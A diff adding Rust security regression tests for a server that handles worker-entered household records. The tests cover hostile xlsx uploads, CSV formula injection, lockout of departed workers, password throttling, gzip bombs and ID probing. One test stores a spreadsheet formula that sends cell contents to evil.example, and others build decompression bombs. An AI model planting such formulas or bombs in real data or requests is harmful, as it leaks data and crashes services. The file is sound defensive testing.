@@ -1,0 +1,300 @@
+//! Security findings tried from outside, each with its fix: a hostile roster file, formulas in
+//! exports, locking out a departed worker, password guessing, oversized bodies and answers,
+//! probing who is registered, signing out.
+
+use std::io::Write;
+use std::time::{Duration, Instant};
+
+use doorstep_server::testing::Backend;
+use doorstep_shared::Value;
+use doorstep_shared::sync::MutationStatus;
+use serde_json::json;
+
+use crate::both;
+use crate::helpers::{Api, edit, now, spawn, t};
+
+async fn admin_post(api: &Api, path: &str, body: serde_json::Value) -> reqwest::StatusCode {
+    let admin = api.login("admin").await;
+    api.post(&admin, path, body).await.status()
+}
+
+/// An `.xlsx` with one cell in A1 and one in XFD1048576 is refused with a clear error and the
+/// server keeps serving (it used to allocate a dense range of ~17 billion cells and die).
+async fn a_hostile_xlsx_is_refused_and_the_server_lives(b: Backend) {
+    let api = spawn(b).await;
+    let admin = api.login("admin").await;
+    let mut wb = rust_xlsxwriter::Workbook::new();
+    let ws = wb.add_worksheet();
+    ws.write_string(0, 0, "序号").unwrap();
+    ws.write_string(1_048_575, 16_383, "x").unwrap();
+    let bytes = wb.save_to_buffer().unwrap();
+    let t0 = Instant::now();
+    let r = api
+        .http
+        .post(api.url("/api/v1/admin/roster?filename=bomb.xlsx"))
+        .bearer_auth(&admin.token)
+        .body(bytes)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 422);
+    let body: serde_json::Value = r.json().await.unwrap();
+    assert_eq!(body["error"]["code"], "roster_invalid");
+    assert!(t0.elapsed() < Duration::from_secs(20));
+    let health = api.http.get(api.url("/healthz")).send().await.unwrap();
+    assert_eq!(health.status(), 200);
+}
+both!(a_hostile_xlsx_is_refused_and_the_server_lives);
+
+/// A worker's text that a spreadsheet would run as a formula is written inert in the CSV.
+async fn exported_text_never_runs_as_a_formula(b: Backend) {
+    let api = spawn(b).await;
+    let w = api.login("w001").await;
+    let p = api.pull_all(&w).await.into_values().next().unwrap();
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")";
+    let r = api
+        .push(
+            &w,
+            vec![edit(
+                &p,
+                &[
+                    ("outcome", t("away")),
+                    ("outcome_note", t(evil)),
+                    ("status", t("final")),
+                ],
+                now(),
+            )],
+        )
+        .await;
+    assert_eq!(r.results[0].status, MutationStatus::Applied, "{r:?}");
+    let admin = api.login("admin").await;
+    let csv = api
+        .get(&admin, "/api/v1/export/records.csv")
+        .await
+        .text()
+        .await
+        .unwrap();
+    assert!(
+        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
+        "live formula"
+    );
+    assert!(csv.contains("'=HYPERLINK"), "kept, as text");
+}
+both!(exported_text_never_runs_as_a_formula);
+
+/// A departed worker is locked out at once: deactivation ends every session and refuses sign-in;
+/// a password reset ends every session; a user changes their own password; signing out ends the
+/// token.
+async fn a_departed_worker_is_locked_out(b: Backend) {
+    let api = spawn(b).await;
+    let w = api.login("w001").await;
+    let other_phone = api.login("w001").await;
+    assert_eq!(api.get(&w, "/api/v1/sync/pull").await.status(), 200);
+    assert_eq!(
+        admin_post(&api, "/api/v1/admin/users/w001/deactivate", json!({})).await,
+        204
+    );
+    for s in [&w, &other_phone] {
+        assert_eq!(api.get(s, "/api/v1/sync/pull").await.status(), 401);
+    }
+    let r = api
+        .try_login("w001", doorstep_server::seed::DEMO_PASSWORD, None)
+        .await;
+    assert_eq!(r.status(), 401);
+    assert_eq!(
+        admin_post(&api, "/api/v1/admin/users/admin/deactivate", json!({})).await,
+        409,
+        "the last admin stays"
+    );
+    assert_eq!(
+        admin_post(&api, "/api/v1/admin/users/w001/reactivate", json!({})).await,
+        204
+    );
+    let w = api.login("w001").await;
+    // An admin's reset ends the sessions; the new password works.
+    assert_eq!(
+        admin_post(
+            &api,
+            "/api/v1/admin/users/w001/password",
+            json!({"password": "new-secret-2021"})
+        )
+        .await,
+        204
+    );
+    assert_eq!(api.get(&w, "/api/v1/sync/pull").await.status(), 401);
+    let r = api.try_login("w001", "new-secret-2021", None).await;
+    assert_eq!(r.status(), 200);
+    let login: doorstep_shared::sync::LoginResponse = r.json().await.unwrap();
+    let token = login.token;
+    let change = |old: &str, new: &str| {
+        api.http
+            .post(api.url("/api/v1/auth/password"))
+            .bearer_auth(&token)
+            .json(&json!({"old_password": old, "new_password": new}))
+            .send()
+    };
+    assert_eq!(
+        change("wrong-old-pass", "another-pass-1")
+            .await
+            .unwrap()
+            .status(),
+        422
+    );
+    assert_eq!(
+        change("new-secret-2021", "short").await.unwrap().status(),
+        422
+    );
+    assert_eq!(
+        change("new-secret-2021", "another-pass-1")
+            .await
+            .unwrap()
+            .status(),
+        204
+    );
+    let r = api.try_login("w001", "another-pass-1", None).await;
+    let s: doorstep_shared::sync::LoginResponse = r.json().await.unwrap();
+    let out = api
+        .http
+        .post(api.url("/api/v1/auth/logout"))
+        .bearer_auth(&s.token)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(out.status(), 204);
+    let r = api
+        .http
+        .get(api.url("/api/v1/sync/pull"))
+        .bearer_auth(&s.token)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 401, "signed out on the server");
+}
+both!(a_departed_worker_is_locked_out);
+
+/// Guessing passwords: after five failures the account waits (429, even with the right
+/// password) until an admin reactivates it; an unknown user name costs the same work.
+async fn password_guessing_is_throttled(b: Backend) {
+    let api = spawn(b).await;
+    let admin = api.login("admin").await;
+    let mut known = Vec::new();
+    for _ in 0..5 {
+        let t0 = Instant::now();
+        let r = api.try_login("sup01", "wrong-password", None).await;
+        known.push(t0.elapsed());
+        assert_eq!(r.status(), 401);
+    }
+    let r = api
+        .try_login("sup01", doorstep_server::seed::DEMO_PASSWORD, None)
+        .await;
+    assert_eq!(r.status(), 429);
+    let body: serde_json::Value = r.json().await.unwrap();
+    assert_eq!(body["error"]["code"], "too_many_attempts");
+    assert_eq!(
+        api.post(&admin, "/api/v1/admin/users/sup01/reactivate", json!({}))
+            .await
+            .status(),
+        204
+    );
+    let r = api
+        .try_login("sup01", doorstep_server::seed::DEMO_PASSWORD, None)
+        .await;
+    assert_eq!(r.status(), 200, "the admin lifted the lockout");
+    let mut unknown = Vec::new();
+    for i in 0..4 {
+        let t0 = Instant::now();
+        let r = api
+            .try_login(&format!("nobody{i}"), "wrong-password", None)
+            .await;
+        unknown.push(t0.elapsed());
+        assert_eq!(r.status(), 401);
+    }
+    known.sort();
+    unknown.sort();
+    let (k, u) = (known[2].as_secs_f64(), unknown[2].as_secs_f64());
+    assert!(
+        u > k / 3.0,
+        "an unknown user costs as much work: {u:.4} s vs {k:.4} s"
+    );
+}
+both!(password_guessing_is_throttled);
+
+/// Oversized input: a gzip body that inflates to 60 MiB is refused at sign-in; a 900 kB answer
+/// is refused; a long review comment is refused.
+async fn oversized_input_is_refused(b: Backend) {
+    let api = spawn(b).await;
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    gz.write_all(b"{\"username\":\"").unwrap();
+    gz.write_all(&vec![b'a'; 60 * 1024 * 1024]).unwrap();
+    gz.write_all(b"\",\"password\":\"x\"}").unwrap();
+    let bomb = gz.finish().unwrap();
+    let r = api
+        .http
+        .post(api.url("/api/v1/auth/login"))
+        .header("content-type", "application/json")
+        .header("content-encoding", "gzip")
+        .body(bomb)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 413);
+    let w = api.login("w001").await;
+    let p = api.pull_all(&w).await.into_values().next().unwrap();
+    let big = "长".repeat(300_000);
+    let r = api
+        .push(
+            &w,
+            vec![edit(
+                &p,
+                &[
+                    ("outcome", t("away")),
+                    ("outcome_note", Some(Value::text(big))),
+                ],
+                now(),
+            )],
+        )
+        .await;
+    assert_eq!(r.results[0].code.as_deref(), Some("invalid_item"));
+    let sup = api.login("sup01").await;
+    let r = api
+        .post(
+            &sup,
+            &format!("/api/v1/records/{}/review", p.person.id),
+            json!({"decision": "returned", "comment": "x".repeat(5_000)}),
+        )
+        .await;
+    assert_eq!(r.status(), 422);
+}
+both!(oversized_input_is_refused);
+
+/// A worker cannot probe whether an ID number is registered, or where: an unknown person and a
+/// person of another community get the same answer, in a push and in a read.
+async fn unknown_and_out_of_scope_look_the_same(b: Backend) {
+    let api = spawn(b).await;
+    let w1 = api.login("w001").await;
+    let w2 = api.login("w002").await;
+    let theirs = api.pull_all(&w2).await.into_values().next().unwrap();
+    let mut nobody = theirs.clone();
+    nobody.person.id = uuid::Uuid::new_v4();
+    let r = api
+        .push(
+            &w1,
+            vec![
+                edit(&theirs, &[("ethnicity", t("han"))], now()),
+                edit(&nobody, &[("ethnicity", t("han"))], now()),
+            ],
+        )
+        .await;
+    assert_eq!(r.results[0].code, r.results[1].code);
+    assert_eq!(r.results[0].message, r.results[1].message);
+    assert!(!r.results[0].message.as_deref().unwrap().contains("430503"));
+    let a = api
+        .get(&w1, &format!("/api/v1/records/{}", theirs.person.id))
+        .await;
+    let b2 = api
+        .get(&w1, &format!("/api/v1/records/{}", nobody.person.id))
+        .await;
+    assert_eq!(a.status(), b2.status());
+    assert_eq!(a.text().await.unwrap(), b2.text().await.unwrap());
+}
+both!(unknown_and_out_of_scope_look_the_same);
